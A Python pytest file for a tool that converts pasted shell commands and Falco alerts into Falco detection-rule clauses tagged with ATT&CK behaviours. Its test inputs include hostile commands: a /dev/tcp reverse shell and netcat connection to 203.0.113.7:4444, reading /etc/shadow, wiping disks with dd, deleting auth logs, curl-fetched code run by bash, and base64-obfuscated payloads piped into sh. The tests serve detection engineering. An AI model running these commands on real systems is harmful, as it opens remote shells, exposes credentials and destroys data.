"""Pasted command lines, scripts and alerts become clauses, each with an event that it matches."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rules_export.falco_checks.condition import check_condition
from rules_export.language.parser import parse
from studio.behaviours import conditions, describe
from studio.behaviours.queries import all as library


def clauses(text: str) -> list[str]:
    return [proposal.clause for proposal in describe.propose(text)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "systemctl disable apport.service",
            'spawned_process and proc.name = systemctl and proc.args contains "disable apport.service"',
        ),
        (
            "systemctl --now disable foo.timer",
            'spawned_process and proc.name = systemctl and proc.args contains "disable foo.timer"',
        ),
        (
            "sudo sh -c 'rm -rf /backup/*'",
            "spawned_process and proc.name = rm and proc.args contains -rf and proc.args contains /backup/",
        ),
        ("echo x > /etc/cron.d/y", "open_write and fd.name = /etc/cron.d/y"),
        ("echo x >> /etc/hosts", "open_write and fd.name = /etc/hosts"),
        ("cat /etc/shadow", "open_read and fd.name = /etc/shadow"),
        ("tee -a /etc/sudoers", "open_write and fd.name = /etc/sudoers"),
        ("vi /etc/default/grub", "open_write and fd.name = /etc/default/grub"),
        (
            "mkfs.ext4 -E nodiscard /dev/sdb1",
            'spawned_process and proc.name = mkfs.ext4 and proc.args contains "-E nodiscard"',
        ),
        ("rm /var/log/auth.log", "evt.type in (unlink, unlinkat) and fs.path.name = /var/log/auth.log"),
        ("curl http://203.0.113.7/x", "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 80"),
        ("nc 203.0.113.7 4444", "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 4444"),
        (
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 4444",
        ),
        ("dd if=/dev/zero of=/mnt/b.img", "open_write and fd.name = /mnt/b.img"),
        ("/opt/tool/exotic", "spawned_process and proc.name = exotic"),
        (
            "cat <<EOF > /etc/systemd/system/x.service\n[Unit]\nEOF",
            "open_write and fd.name = /etc/systemd/system/x.service",
        ),
        ("curl -o /tmp/x http://a/x", "open_write and fd.name = /tmp/x"),
        ("chattr +i /etc/passwd", "spawned_process and proc.name = chattr and proc.args contains +i"),
    ],
)
def test_it_proposes_the_clause_that_matters(text: str, expected: str) -> None:
    assert parse(expected) in [parse(clause) for clause in clauses(text)]


@pytest.mark.parametrize(
    ("alert", "expected"),
    [
        (
            {"rule": "R", "output_fields": {"evt.type": "openat", "fd.name": "/etc/shadow", "proc.name": "cat"}},
            "evt.type in (open, openat, openat2) and fd.name = /etc/shadow and proc.name = cat",
        ),
        (
            {
                "output_fields": {
                    "evt.type": "openat",
                    "fd.name": "/etc/x",
                    "proc.name": "vi",
                    "evt.arg.flags": "O_RDWR",
                }
            },
            "open_write and fd.name = /etc/x and proc.name = vi",
        ),
        (
            {"output_fields": {"proc.cmdline": "rm -rf /x"}},
            "spawned_process and proc.name = rm and proc.args contains -rf and proc.args contains /x",
        ),
        (
            {"output_fields": {"fd.sip": "203.0.113.7", "fd.sport": 4444, "proc.name": "nc"}},
            "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 4444 and proc.name = nc",
        ),
    ],
)
def test_it_reads_alerts(alert: dict[str, object], expected: str) -> None:
    assert parse(clauses(json.dumps(alert))[-1]) == parse(expected)


@pytest.mark.parametrize(
    ("line", "expected", "fields"),
    [
        (
            "16:00:29.001414928: Critical Bulk data removed from disk (user=root command=shred -u /srv/a file=/srv/a) "
            "container_id=host",
            "evt.type in (open, openat, openat2) and fd.name = /srv/a and proc.name = shred",
            {"user.name": "root", "proc.cmdline": "shred -u /srv/a", "container.id": "host"},
        ),
        (
            "2024-03-20T16:00:29.001414928+0000: Warning Disk overwritten | evt_type=execve user=root user_uid=0 "
            "process=dd proc_exepath=/usr/bin/dd parent=bash command=dd if=/dev/zero of=/dev/sda terminal=34816",
            'spawned_process and proc.name = dd and proc.args contains "if=/dev/zero" and '
            'proc.args contains "of=/dev/sda"',
            {"proc.exepath": "/usr/bin/dd", "proc.pname": "bash", "proc.tty": 34816, "user.uid": 0},
        ),
        (
            "Mar 20 16:00:29 web falco[812]: 16:00:29.1: Notice Out | connection=10.0.0.5:4->203.0.113.7:4444 "
            "evt_type=connect process=nc gparent=<NA>",
            "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 4444 and proc.name = nc",
            {"fd.sport": 4444},
        ),
    ],
)
def test_it_reads_alerts_as_text(line: str, expected: str, fields: dict[str, object]) -> None:
    proposal = describe.propose(line)[-1]
    assert parse(proposal.clause) == parse(expected)
    assert fields.items() <= proposal.event.fields.items()
    assert "proc.aname[2]" not in fields


def test_what_an_alert_leaves_open_follows_from_what_it_says() -> None:
    line = {"output_fields": {"proc.cmdline": "id", "user.name": "www-data", "proc.pname": "php-fpm"}}
    fields = describe.propose(json.dumps(line))[-1].event.fields
    assert (fields["user.uid"], fields["proc.aname"], fields["proc.tty"]) == (33, "php-fpm systemd", 0)


def test_it_knows_alerts_that_the_library_knows() -> None:
    found = describe.propose("16:00:29.1: Warning Read (file=/etc/shadow command=cat /etc/shadow evt_type=openat)")
    assert found[0].behaviour == "t1003-008-read-shadow"


@pytest.mark.parametrize(
    "text",
    [
        "echo Y2hhdHRyICtpIC9ldGMvcGFzc3dk | base64 -d | sudo sh",
        "base64 --decode <<< Y2hhdHRyICtpIC9ldGMvcGFzc3dk | bash",
        "printf %s 6368617474722b | cat; echo 'chattr +i /etc/passwd' | sh",
        "bash <<< 'chattr +i /etc/passwd'",
        "cat <<END | sh\nchattr +i /etc/passwd\nEND\n",
        "sh -c 'echo Y2hhdHRyICtpIC9ldGMvcGFzc3dk | base64 -d | sh'",
    ],
)
def test_it_reads_what_is_piped_into_a_shell(text: str) -> None:
    assert "spawned_process and proc.name = chattr and proc.args contains +i and proc.args contains /etc/passwd" in (
        clauses(text)
    )


@pytest.mark.parametrize("text", ['bash -c "$(curl -s http://x/y)"', "$TOOL -rf /x", "eval $(cat a) -rf /x", "\0\1"])
def test_it_proposes_no_program_that_only_the_shell_knows(text: str) -> None:
    assert {proposal.event.fields["proc.name"] for proposal in describe.propose(text)} <= {"curl", "cat"}


def test_it_looks_at_the_environment_that_a_command_is_given() -> None:
    assert "t1574-006-ld-preload-env" in [one.behaviour for one in describe.propose("LD_PRELOAD=/tmp/a.so id")]


def test_it_leaves_out_how_dd_copies() -> None:
    assert not [clause for clause in clauses("dd if=/dev/zero of=/dev/sda bs=1M status=none") if "bs=" in clause]


def test_it_knows_what_the_library_knows() -> None:
    found = describe.propose("systemctl disable apport.service")
    assert found[0].behaviour == "t1490-disable-apport"
    assert "T1490" in found[0].why


def test_it_reads_alerts_and_commands_mixed_and_keeps_their_lines() -> None:
    text = 'rm -rf /a\n{"output_fields": {"proc.cmdline": "dd if=/dev/zero of=/b"}}\nchattr +i /c'
    assert {proposal.line for proposal in describe.propose(text)} == {1, 2, 3}


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("echo 'a", "not closed"),
        ('{"output_fields": {"x": 1', "not complete JSON"),
        ('{"a": 1}', "no output_fields"),
        ("16:00:29.1: Notice nothing to see", "no key=value"),
        ("ls", ""),
        ("((", "no command and no alert"),
        ("# a comment", "no command and no alert"),
        ("echo hello", "Nothing here tells an attack"),
        ("a\n" * 300, "first 200 commands"),
    ],
)
def test_it_says_what_it_could_not_use(text: str, words: str) -> None:
    assert any(words in line for line in describe.read(text).unread) or not words


def test_it_marks_what_runs_as_root_and_out_of_what() -> None:
    proposal = describe.propose("sudo chattr +i /etc/passwd")[-1]
    assert proposal.event.fields["user.name"] == "root"
    assert "sudo" in proposal.why


def assert_sound(text: str) -> None:
    for proposal in describe.propose(text):
        tree = conditions.expanded(parse(proposal.clause))
        check_condition(tree)
        assert conditions.matcher(tree).matches(proposal.event.fields), proposal.clause
        assert proposal.title
        assert proposal.why


def test_it_is_sound_on_every_command_of_the_library() -> None:
    for behaviour in library():
        assert_sound(behaviour.emulation)
        for event in behaviour.attack_events:
            assert_sound(str(event.fields["proc.cmdline"]))


@settings(max_examples=150, deadline=None)
@given(st.text(st.sampled_from("rmdcat/etc x'\"\\`$()<>|&;\n\t#=*-+i10.:@é"), max_size=120))
def test_it_never_fails_and_stays_sound_on_anything(text: str) -> None:
    assert_sound(text)
